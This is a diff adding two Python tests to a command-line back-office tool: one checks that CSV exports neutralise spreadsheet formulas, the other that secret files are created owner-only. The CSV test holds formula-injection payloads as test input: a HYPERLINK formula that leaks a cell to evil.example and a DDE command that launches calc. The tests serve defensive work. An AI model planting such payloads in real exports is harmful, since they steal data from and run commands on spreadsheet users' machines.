@@ -19,12 +19,14 @@ from cryptography.hazmat.primitives.serialization import Encoding
 
 from firmware import ed25519
 from firmware import station_config as firmware_config
+from host import csvfile
 from host.backoffice.service import BackOffice
 from host.backoffice.site import Site
 from host.cli import main
 from protocol.records import decode_record, signed_part
 from tests.tls_pki import ca_certificate_der
 
+from ..csv_safety import cells, formulas, naive_formulas
 from .builders import keypair, lock_event, lock_record, upload
 
 
@@ -282,3 +284,59 @@ def test_an_https_station_config_carries_the_back_office_ca(cli: Cli, tmp_path: 
         (out / "station.json").read_bytes(), (out / "station.sig").read_bytes()
     )
     assert firmware_config.backoffice_ca(config) == PKI_DER
+
+
+def test_csv_exports_neutralise_formulas_in_both_dialects(cli: Cli, tmp_path: Path) -> None:
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
+    command = "Eva Ek;=cmd|' /C calc'!A0"
+    cli("staff", "add", hyperlink, "--unit", "1", "--code", "482913")
+    cli("staff", "add", command, "--unit", "2", "--code", "615240")
+    plain, swedish = tmp_path / "staff.csv", tmp_path / "staff-sv.csv"
+    cli("staff", "list", "--csv", str(plain))
+    cli("staff", "list", "--csv", str(swedish), "--csv-dialect", "sv")
+    for path, delimiter in ((plain, ","), (swedish, ";")):
+        content = path.read_bytes().decode("utf-8")
+        assert content.startswith("\ufeff") == (delimiter == ";")
+        assert formulas(content) == [], path.name
+        assert naive_formulas(content, ",") == naive_formulas(content, ";") == []
+        header, *rows = cells(content, delimiter)
+        names = [row[header.index("name")] for row in rows]
+        assert names == ["'" + hyperlink, "'Eva Ek;'=cmd|' /C calc'!A0"]
+        assert [r["name"] for r in csvfile.read_records(content)] == [hyperlink, command]
+
+
+def test_every_secret_written_is_owner_only_from_the_start(cli: Cli, tmp_path: Path) -> None:
+    station = cli("station", "add", "--unit", "1", "--name", "Nord 1")
+    cli("staff", "add", "Anna Andersson", "--unit", "1", "--code", "482913")
+    cli("user", "add", "tina", "--role", "technician", "--password", "pw")
+    private = tmp_path / "hemligt"  # not there yet: made 0700
+    old = os.umask(0)  # a file made without a mode of its own would be 0666
+    try:
+        cli("bundle", "--station", str(station["id"]), "--out", str(private / "bundle.bin"))
+        cli(
+            "service-token",
+            "--station",
+            str(station["id"]),
+            "--technician",
+            "tina",
+            "--allow",
+            "set-clock",
+            "--out",
+            str(private / "token.bin"),
+        )
+        config = private / "config"
+        rest = ["--contact", "Bemanningen 010-123", "--out", str(config)]
+        cli("station", "config", str(station["id"]), "--url", "http://127.0.0.1:8080", *rest)
+    finally:
+        os.umask(old)
+    for path in (private / "bundle.bin", private / "token.bin", *config.iterdir()):
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
+    assert stat.S_IMODE(private.stat().st_mode) == stat.S_IMODE(config.stat().st_mode) == 0o700
+    assert stat.S_IMODE((cli.site / "synk.db").stat().st_mode) == 0o600
+    assert stat.S_IMODE(cli.site.stat().st_mode) == 0o700
+
+    shared = tmp_path / "delad"
+    shared.mkdir(mode=0o755)
+    shared.chmod(0o755)
+    cli("bundle", "--station", str(station["id"]), "--out", str(shared / "b.bin"), status=2)
+    assert "chmod 700" in cli.err and list(shared.iterdir()) == []
